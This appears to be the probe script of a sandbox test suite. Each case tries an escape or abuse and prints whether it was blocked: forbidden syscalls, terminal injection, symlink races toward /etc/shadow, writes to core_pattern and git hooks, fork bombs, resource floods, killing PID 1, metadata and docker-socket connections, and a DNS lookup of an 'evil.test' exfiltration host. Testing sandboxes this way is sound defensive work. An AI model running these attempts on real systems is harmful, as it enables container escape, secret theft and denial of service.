"""The attacks, from inside. Each case prints one JSON value: what was tried and what came of it.

An outcome is "OK", or the name of an error, or what was got. The test knows what has to
come; this program only tries. System calls are made by number, for x86_64.
"""
import ctypes
import errno
import json
import mmap
import os
import resource
import signal
import socket
import stat
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call, its result or the error's name."""
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result >= 0:
        return "OK"
    return errno.errorcode.get(ctypes.get_errno(), "E?")


def attempt(action):
    """OK, or the name of the error."""
    try:
        action()
        return "OK"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def text(string):
    return ctypes.c_char_p(string.encode())


def reads(paths):
    def read(path):
        if os.path.isdir(path):
            os.listdir(path)
        else:
            with open(path, "rb") as file:
                file.read(16)

    return {path: attempt(lambda: read(path)) for path in paths}


def writes(paths):
    return {path: attempt(lambda: open(path, "r+b" if os.path.exists(path) else "wb")) for path in paths}


def ptrace():
    return {"attach": call(101, 16, 1, 0, 0), "seize": call(101, 0x4206, 1, 0, 0)}


def process_vm():
    return {"readv": call(310, 1, 0, 0, 0, 0, 0), "writev": call(311, 1, 0, 0, 0, 0, 0)}


def proc_one():
    return reads(["/proc/1/mem", "/proc/1/environ", "/proc/1/root", "/proc/1/fd", "/proc/1/cwd"])


def own_exe():
    return {
        "self": attempt(lambda: open("/proc/self/exe", "r+b")),
        "first": attempt(lambda: open("/proc/1/exe", "r+b")),
    }


def mounts():
    return {
        "mount": call(165, text("x"), text("/tmp"), text("tmpfs"), 0, 0),
        "umount": call(166, text("/proc"), 2),
        "fsopen": call(430, text("tmpfs"), 0),
        "open_tree": call(428, -100, text("/"), 1),
        "move_mount": call(429, -100, text("/tmp"), -100, text("/job"), 0),
        "mount_setattr": call(442, -100, text("/"), 0, 0, 0),
        "pivot_root": call(155, text("/"), text("/")),
        "chroot": call(161, text("/tmp")),
    }


def nested():
    return {"unshare": call(272, 0x10000000), "clone": call(56, 0x10000000 | 17, 0, 0, 0, 0)}


def clone3():
    return {"clone3": call(435, 0, 0)}


def setns():
    return {"setns": call(308, 0, 0)}


def keys():
    return {
        "keyctl": call(250, 0, -3, 0),
        "add_key": call(248, text("user"), text("a"), text("b"), 1, -3),
        "request_key": call(249, text("user"), text("a"), 0, -3),
    }


def bpf():
    return {"bpf": call(321, 0, 0, 0)}


def perf():
    return {"perf": call(298, 0, 0, -1, -1, 0)}


def userfaultfd():
    return {"userfaultfd": call(323, 0)}


def io_uring():
    return {"setup": call(425, 8, 0), "enter": call(426, 0, 0, 0, 0, 0), "register": call(427, 0, 0, 0, 0)}


def machine():
    return {
        "kexec": call(246, 0, 0, 0, 0),
        "init_module": call(175, 0, 0, text("")),
        "finit_module": call(313, 0, text(""), 0),
        "reboot": call(169, 0, 0, 0),
        "swapon": call(167, text("/tmp/x"), 0),
        "syslog": call(103, 3, 0, 0),
    }


def clocks():
    return {
        "clock_settime": call(227, 0, 0),
        "settimeofday": call(164, 0, 0),
        "adjtimex": call(159, 0),
        "clock_adjtime": call(305, 0, 0),
    }


def terminal():
    high = 1 << 32
    return {
        "sti": call(16, 0, 0x5412, text("x")),
        "sti_high": call(16, 0, high | 0x5412, text("x")),
        "linux": call(16, 0, 0x541C, text("x")),
        "linux_high": call(16, 0, high | 0x541C, text("x")),
    }


def x32():
    return {"getpid": call(0x40000000 | 39), "execve": call(0x40000000 | 520, 0, 0, 0)}


def i386():
    # mov eax, 20 (getpid); int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return {"getpid": ctypes.CFUNCTYPE(ctypes.c_int)(address)()}


def handles():
    return {"open": call(304, -100, 0, 0), "name": call(303, -100, text("/"), 0, 0, 0)}


def personality():
    return {"no_randomize": call(135, 0x0040000)}


def devices():
    return {
        "char": attempt(lambda: os.mknod("/tmp/mem", 0o20666, os.makedev(1, 1))),
        "block": attempt(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))),
    }


def setuid():
    status = dict(
        line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line
    )
    programs = [p for p in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount") if os.path.exists(p)]
    return {
        "setuid": attempt(lambda: os.setuid(0)),
        "setgid": attempt(lambda: os.setgid(0)),
        "no_new_privs": status["NoNewPrivs"],
        "capabilities": [status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
        "nosuid": all(os.statvfs(p).f_flag & os.ST_NOSUID for p in programs),
        "uid": os.getuid(),
    }


def host_files():
    return writes(["/usr/x", "/usr/bin/env", "/etc/passwd", "/etc/x", "/x", "/dev/x", "/proc/self/../../x"])


def kernel_files():
    return reads(["/proc/kcore", "/proc/kallsyms", "/proc/sys/kernel/core_pattern", "/proc/keys"]) | writes(
        ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"]
    )


def hardware():
    return reads(["/dev/mem", "/dev/kvm", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/tty", "/dev/ptmx", "/sys",
                  "/sys/fs/cgroup", "/root", "/home", "/var", "/run"])


def escapes():
    os.symlink("/etc/shadow", "/tmp/link")
    os.symlink("/proc/1/root", "/tmp/root")
    return reads(["/tmp/link", "/tmp/root", "/job/../../../../root/.bashrc", "/job/../etc/shadow",
                  "/proc/self/root/etc/shadow", "/proc/self/cwd/../../../root"])


def hardlinks():
    return {
        "usr": attempt(lambda: os.link("/usr/bin/env", "/tmp/env")),
        "work": attempt(lambda: os.link("/usr/bin/env", "/job/env")),
    }


def swap_links():
    """Swaps a result between a file and a link to a secret, until it is killed."""
    with open("/job/plain", "w") as file:
        file.write("plain")
    os.symlink(sys.argv[2], "/job/evil")
    print("swapping", flush=True)
    while True:
        for name in ("plain", "evil"):
            os.link("/job/" + name, "/job/next", follow_symlinks=False)
            os.rename("/job/next", "/job/result")


def descriptors():
    names = [os.readlink("/proc/self/fd/" + fd) for fd in os.listdir("/proc/self/fd") if os.path.lexists("/proc/self/fd/" + fd)]
    entered = [n for n in range(3, 256) if attempt(lambda: os.chdir(f"/proc/self/fd/{n}/..")) == "OK"]
    return {"open": names, "entered": entered, "cwd": os.getcwd()}


def protected():
    return {
        "hook": attempt(lambda: open("/job/.git/hooks/pre-commit", "w")),
        "new_hook": attempt(lambda: open("/job/.git/hooks/post-checkout", "w")),
        "config": attempt(lambda: open("/job/.git/config", "a")),
        "bashrc": attempt(lambda: open("/job/.bashrc", "a")),
        "unlink": attempt(lambda: os.unlink("/job/.bashrc")),
        "rename_over": attempt(lambda: (open("/job/n", "w"), os.rename("/job/n", "/job/.bashrc"))),
        "rename_hooks": attempt(lambda: os.rename("/job/.git/hooks", "/job/.git/old")),
        "rename_git": attempt(lambda: os.rename("/job/.git", "/job/old")),
        "index": attempt(lambda: open("/job/.git/index", "w")),
        "file": attempt(lambda: open("/job/file", "w")),
    }


def fill(path):
    """MiB that fit, and the error."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    block, count = b"x" * (1 << 20), 0
    try:
        for number in range(64):
            with open(f"{path}/big{number}", "wb", buffering=0) as file:
                for _ in range(16):
                    if file.write(block) < len(block):
                        raise OSError(errno.ENOSPC, "short")
                    count += 1
    except OSError as error:
        return [count, errno.errorcode[error.errno]]
    return [count, "OK"]


def fill_tmp():
    return fill("/tmp")


def fill_shm():
    return fill("/dev/shm")


def fill_work():
    return fill("/job")


def one_large_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("/job/large", "wb") as file:
        return attempt(lambda: file.truncate(1 << 40))


def inodes():
    count = 0
    try:
        while count < 200000:
            os.close(os.open(f"/tmp/i{count}", os.O_CREAT | os.O_WRONLY))
            count += 1
    except OSError as error:
        return [count, errno.errorcode[error.errno]]
    return [count, "OK"]


def fork_bomb():
    children = 0
    try:
        while children < 5000:
            if os.fork() == 0:
                time.sleep(1000)
            children += 1
    except OSError as error:
        return [children, errno.errorcode[error.errno]]
    return [children, "OK"]


def zombies():
    children = 0
    try:
        while children < 5000:
            if os.fork() == 0:
                os._exit(0)
            children += 1
    except OSError as error:
        return [children, errno.errorcode[error.errno]]
    return [children, "OK"]


def threads():
    import threading

    threading.stack_size(65536)
    started = 0
    try:
        while started < 5000:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            started += 1
    except RuntimeError:
        print(json.dumps([started, "EAGAIN"]), flush=True)
        os._exit(0)
    os._exit(1)


def orphans():
    made = 0
    for _ in range(300):
        child = os.fork()
        if child == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
        os.waitpid(child, 0)
        made += 1
    time.sleep(0.2)
    return {"made": made, "visible": [p for p in os.listdir("/proc") if p.isdigit()]}


def memory():
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))


def many_files():
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    opened = []
    try:
        while len(opened) < 100000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
        result = "OK"
    except OSError as error:
        result = errno.errorcode[error.errno]
    highest = max(opened)
    for fd in opened:
        os.close(fd)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit[0] + 1, limit[1] + 1))
        raised = "OK"
    except (OSError, ValueError):
        raised = "refused"
    return {"limit": limit, "highest": highest, "then": result, "raise": raised}


def flood():
    while True:
        os.write(1, b"y" * 65536)


def flood_errors():
    for _ in range(1000):
        os.write(2, b"e" * 65536)
    os.write(2, b"the end")
    return "OK"


def drip():
    while True:
        os.write(1, b".")
        time.sleep(0.05)


def holder():
    if os.fork() == 0:
        time.sleep(1000)
    print(json.dumps("OK"), flush=True)
    os._exit(0)


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.close(fd)
            time.sleep(1000)
        os._exit(0)
    os.wait()
    return "OK"


def stop():
    os.kill(os.getpid(), signal.SIGSTOP)
    return "went on"


def kill_first():
    sent = {}
    for name in ("SIGTERM", "SIGINT", "SIGKILL", "SIGSTOP", "SIGSEGV", "SIGHUP"):
        sent[name] = attempt(lambda: os.kill(1, getattr(signal, name)))
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    sent["all"] = attempt(lambda: os.kill(-1, signal.SIGTERM))
    time.sleep(0.2)
    # A dead first process would have taken this one along.
    sent["alive"] = os.getppid()
    return sent


def spin():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


def mute():
    for fd in (0, 1, 2):
        os.close(fd)
    while True:
        time.sleep(1000)


def sleep():
    print("sleeping", flush=True)
    time.sleep(1000)


def priorities():
    buffer = ctypes.create_string_buffer(1 << 20)
    return {
        "mlock": "OK" if libc.mlock(buffer, 1 << 20) == 0 else errno.errorcode[ctypes.get_errno()],
        "mqueue": call(240, text("q"), 0o102, 0o600, 0),
        "fifo": attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))),
        "nice": attempt(lambda: os.nice(-20)),
        "ioprio": call(251, 1, 0, 1 << 13),
    }


def never_reads():
    sys.exit(3)


def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        sock.connect(address)


def direct():
    return {
        "metadata": attempt(lambda: connect(socket.AF_INET, ("169.254.169.254", 80))),
        "v6_loopback": attempt(lambda: connect(socket.AF_INET6, ("::1", 80))),
        "public": attempt(lambda: connect(socket.AF_INET, ("1.1.1.1", 443))),
        "private": attempt(lambda: connect(socket.AF_INET, ("10.0.0.1", 80))),
        "given": attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", int(sys.argv[2])))),
    }


def udp():
    def send(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"x", address)

    return {str(a): attempt(lambda: send(a)) for a in [("8.8.8.8", 53), ("169.254.169.254", 53), ("10.0.0.2", 53)]}


def dns():
    try:
        return {"resolved": str(socket.getaddrinfo("secret-data.evil.test", 80))}
    except socket.gaierror:
        return {"resolved": None}


def unix():
    def abstract():
        connect(socket.AF_UNIX, "\0" + sys.argv[2])

    return {
        "abstract": attempt(abstract),
        "path": attempt(lambda: connect(socket.AF_UNIX, sys.argv[3])),
        "dbus": attempt(lambda: connect(socket.AF_UNIX, "/run/dbus/system_bus_socket")),
        "docker": attempt(lambda: connect(socket.AF_UNIX, "/var/run/docker.sock")),
    }


def families():
    def make(family, kind, protocol=0):
        return attempt(lambda: socket.socket(family, kind, protocol).close())

    return {
        "netlink": make(16, socket.SOCK_RAW),
        "packet": make(17, socket.SOCK_RAW),
        "vsock": make(40, socket.SOCK_STREAM),
        "alg": make(38, socket.SOCK_SEQPACKET),
        "bluetooth": make(31, socket.SOCK_RAW),
        "raw_icmp": make(socket.AF_INET, socket.SOCK_RAW, 1),
        "ping": make(socket.AF_INET, socket.SOCK_DGRAM, 1),
    }


def relay():
    def listen(address):
        with socket.socket() as sock:
            sock.bind(address)
            sock.listen(1)

    return {
        "any": attempt(lambda: listen(("0.0.0.0", 8080))),
        "local": attempt(lambda: listen(("127.0.0.1", 8081))),
        "other_port": attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", 8081))),
    }


def ask_proxy(request, then=b""):
    """What the proxy answers: the status and, after it, what came through the tunnel."""
    with socket.socket() as sock:
        sock.settimeout(20)
        sock.connect(("127.0.0.1", 3128))
        sock.sendall(request)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        status = answer.split(b" ")[1].decode() if b" " in answer else "closed"
        if status == "200" and then is not None:
            try:
                sock.sendall(then)
                if then:
                    sock.shutdown(socket.SHUT_WR)
                while chunk := sock.recv(65536):
                    answer += chunk
            except OSError:
                pass
        return [status, answer.split(b"\r\n\r\n", 1)[-1].decode("latin-1")]


def tunnel(target, then=b""):
    raw = target.encode("latin-1")
    return ask_proxy(b"CONNECT " + raw + b" HTTP/1.1\r\nHost: x\r\n\r\n", then)


def tunnels():
    """The status for each target given."""
    return {target: tunnel(target, None)[0] for target in json.loads(sys.argv[2])}


def requests():
    """The answer for each raw request given."""
    return [ask_proxy(request.encode("latin-1"), None) for request in json.loads(sys.argv[2])]


def through():
    return tunnel(sys.argv[2], sys.argv[3].encode())


def hello():
    """A TLS greeting to the tunnel's server that names another."""
    import ssl

    def greeting(name):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        talk = context.wrap_bio(incoming, outgoing, server_hostname=name)
        try:
            talk.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()

    return {name: tunnel(sys.argv[2], greeting(name))[1] for name in json.loads(sys.argv[3])}


CASE = globals()[sys.argv[1]]
RESULT = CASE()
if RESULT is not None:
    print(json.dumps(RESULT), flush=True)
